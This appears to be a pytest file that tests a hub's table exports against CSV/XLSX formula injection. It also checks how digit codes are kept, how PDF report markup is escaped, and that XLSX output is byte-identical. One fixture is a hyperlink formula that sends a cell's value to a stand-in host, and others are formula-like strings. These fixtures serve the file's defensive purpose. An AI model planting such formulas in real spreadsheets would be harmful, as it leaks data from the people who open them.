"""Exported tables are opened in spreadsheet programs: text from the stations must stay
text there (security audit: CSV/XLSX formula injection, OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest

from hub.oversight import exports

#: A staff id is free text a station's device writes (schemas.case: up to 64 characters).
EVIL = '=HYPERLINK("http://x.test/?"&A1,"open")'


def _table() -> list[list[object]]:
    return [["机构代码", "机构", "工作人员", "按时办结率"],
            ["410621101201", "某村", EVIL, 0.5],
            ["410621101201", "某村", "-1+1", None],
            ["410621101201", "某村", "s1", 1.0]]


def test_csv_cells_from_stations_never_start_a_formula() -> None:
    rows = list(csv.reader(io.StringIO(exports.to_csv(_table()).decode("utf-8-sig"))))
    assert rows[1][2] == "'" + EVIL and rows[2][2] == "'-1+1"
    assert rows[3][2] == "s1" and rows[1][3] == "0.5"  # plain text and numbers unchanged


def test_csv_text_of_a_str_subclass_never_starts_a_formula() -> None:
    """The CSV's fast path checked ``type(v) is str``: text of a subclass of str (Markup,
    an enum's value, a name a library hands back) went out unchanged, a formula."""
    from markupsafe import Markup

    table: list[list[object]] = [["机构", "工作人员"], [Markup(EVIL), Markup("@SUM(A1)")],
                                 [Markup("410621101201"), Markup("某村")]]
    rows = list(csv.reader(io.StringIO(exports.to_csv(table).decode("utf-8-sig"))))
    assert rows[1] == ["'" + EVIL, "'@SUM(A1)"]
    assert rows[2] == ['="410621101201"', "某村"]


def test_csv_codes_of_digits_stay_text_in_a_spreadsheet() -> None:
    """Excel and WPS read "410621101201" in a CSV as a number (shown 4.10621E+11, saved
    back so); the XLSX stores it as text, and the CSV now says text too. Counts stay
    numbers, and text with a letter or a dash (case numbers, staff ids) is left alone."""
    table: list[list[object]] = [["机构代码", "机构", "办件编号", "办结"],
             ["410621101201", "某村", "410621101201-2026-A1-00001", 5],
             ["410621", "某县", "０１２", 0]]
    rows = list(csv.reader(io.StringIO(exports.to_csv(table).decode("utf-8-sig"))))
    assert rows[1] == ['="410621101201"', "某村", "410621101201-2026-A1-00001", "5"]
    assert rows[2] == ['="410621"', "某县", "０１２", "0"]


def test_xlsx_keeps_formula_like_text_as_text() -> None:
    from openpyxl import load_workbook

    data = exports.to_xlsx(_table())
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no cell holds a formula
    ws = load_workbook(io.BytesIO(data)).active
    values = [[c.value for c in r] for r in ws.iter_rows()]
    assert values[1][2] == EVIL and values[2][2] == "-1+1" and values[1][3] == 0.5


def test_the_monthly_report_prints_any_institution_name() -> None:
    """The report's title is reportlab markup: "<b" in a name was a 500, "<x>" vanished."""
    import datetime as dt
    import subprocess
    import tempfile

    from hub.oversight.indicators import Row
    from hub.oversight.report import monthly_report

    name = "R&D<x>实验<b村"
    pdf = monthly_report(scope_name=name, first="2026-03", last="2026-03",
                         today=dt.date(2026, 3, 31), rows=[Row("410621101201")],
                         total=Row(""), name=lambda c: "某村", overdue=[], missing=[],
                         complaint_days=5)
    with tempfile.NamedTemporaryFile(suffix=".pdf") as f:
        f.write(pdf)
        f.flush()
        text = subprocess.run(["pdftotext", f.name, "-"], capture_output=True, text=True).stdout
    assert name in text


def test_xlsx_of_equal_content_is_equal_byte_for_byte(monkeypatch: pytest.MonkeyPatch) -> None:
    """Two downloads of the same query differed (docProps' created and modified, the zip
    entries' times): a supervisor comparing files, or an archive's checksum, saw a change
    where there was none. The workbook claims no time of making it would get wrong."""
    import time

    first = exports.to_xlsx(_table(), title="2026-11")
    later = time.time() + 3 * 3600 + 7  # another download, hours later
    monkeypatch.setattr(time, "time", lambda: later)
    again = exports.to_xlsx(_table(), title="2026-11")
    assert first == again
    assert exports.to_xlsx(_table(), title="2026-10") != first  # other content, other bytes
    with zipfile.ZipFile(io.BytesIO(first)) as z:
        core = z.read("docProps/core.xml").decode()
        assert "created" not in core and "modified" not in core, core
        assert z.testzip() is None
